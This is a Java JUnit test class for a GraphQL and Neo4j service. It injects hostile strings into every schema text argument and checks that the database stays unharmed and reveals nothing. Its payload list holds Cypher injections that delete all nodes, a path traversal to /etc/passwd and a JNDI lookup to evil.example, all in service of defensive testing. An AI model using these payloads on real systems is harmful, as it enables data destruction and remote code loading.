package charteroak.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import charteroak.SeededGraphTest;
import charteroak.TestCallers;
import charteroak.ground.identity.WithDemoAccounts;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.data.neo4j.core.Neo4jClient;
import org.springframework.graphql.execution.GraphQlSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Statements of the database and of the search index, put into every text that the schema takes anywhere. */
@SeededGraphTest
@Import(TestCallers.class)
class InjectionTests extends WithDemoAccounts {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String WHOEVER_MAY = "whoever may";
    private static final List<String> STATEMENTS = List.of(
            "' OR 1=1 WITH 1 AS x MATCH (n) DETACH DELETE n //",
            "\"}) DETACH DELETE n RETURN 1 //",
            "`}]->() CALL dbms.components() YIELD name //",
            "\\u0027}) MERGE (x:Agency {code: $code}) //",
            "*:* OR title:(wages)^9 AND NOT id:[* TO *] ~2 \\",
            "((((((((((\"unclosed",
            "/.*/ {!func}sum(1,2) ../../etc/passwd ${jndi:ldap://evil.example/a}");

    private final int port;
    private final Unharmed unharmed;
    private final List<StringArgument> arguments;

    @Autowired
    InjectionTests(@LocalServerPort int port, Neo4jClient graph, GraphQlSource source) {
        this.port = port;
        this.unharmed = new Unharmed(port, graph);
        this.arguments = StringArgument.in(source.schema());
    }

    @Test
    void everyKindOfPlaceIsFound() {
        assertThat(arguments.stream().map(StringArgument::name))
                .contains("search.query", "agency.code", "elements.after", "proposeRevision.input.definition")
                .anyMatch(name -> name.startsWith("draftAgreement.input.parties."))
                .anyMatch(name -> name.startsWith("plan."))
                .anyMatch(name -> name.contains(".dataset.elements.after"))
                .doesNotHaveDuplicates()
                .hasSizeGreaterThan(150);
    }

    @TestFactory
    Stream<DynamicTest> isWrittenDownAsText() {
        return arguments.stream()
                .filter(StringArgument::writes)
                .map(argument -> DynamicTest.dynamicTest(argument.name(), () -> isWrittenDownAsText(argument)));
    }

    @TestFactory
    Stream<DynamicTest> isReadAsText() {
        return arguments.stream()
                .map(argument -> DynamicTest.dynamicTest(argument.name(), () -> isReadAsText(argument)));
    }

    private void isReadAsText(StringArgument argument) {
        Map<String, Object> before = unharmed.everything();
        for (String statement : STATEMENTS) {
            isReadAsText(statement, argument, "nobody");
        }
        assertThat(unharmed.everything()).isEqualTo(before);
        unharmed.answersTheNextQuestion();
    }

    /** Whoever may do everything either is refused or has written the statement down as the text it is. */
    private void isWrittenDownAsText(StringArgument argument) {
        for (String statement : STATEMENTS) {
            Map<String, Object> before = unharmed.everything();
            JsonNode answer = isReadAsText(statement, argument, WHOEVER_MAY);
            Map<String, Object> after = unharmed.everything();
            if (!answer.path("data")
                    .path(argument.field().getName())
                    .path("userErrors")
                    .isEmpty()) {
                assertThat(after).isEqualTo(before);
            }
            assertThat((long) after.get("things")).isGreaterThanOrEqualTo((long) before.get("things"));
            assertThat((long) after.get("edges")).isGreaterThanOrEqualTo((long) before.get("edges"));
        }
        unharmed.answersTheNextQuestion();
    }

    private JsonNode isReadAsText(String statement, StringArgument argument, String caller) {
        RawHttp.Answer answer = ask(argument, statement, caller);
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        unharmed.revealsNothing(answer, statement);
        JsonNode told = Unharmed.json(answer);
        assertThat(told.path("errors"))
                .as(answer.body())
                .allSatisfy(error -> assertThat(
                                error.path("extensions").path("code").asString(""))
                        .isIn("BAD_REQUEST", "NOT_FOUND", "FORBIDDEN"));
        return told;
    }

    private RawHttp.Answer ask(StringArgument argument, String text, String caller) {
        String body =
                JSON.writeValueAsString(Map.of("query", argument.document(), "variables", argument.variables(text)));
        List<String> type = List.of("Content-Type: application/json");
        List<String> headers = caller.equals(WHOEVER_MAY)
                ? type
                : Stream.concat(type.stream(), Stream.of(TestCallers.HEADER + ": " + caller))
                        .toList();
        return RawHttp.send(port, "POST /graphql", headers, body);
    }
}
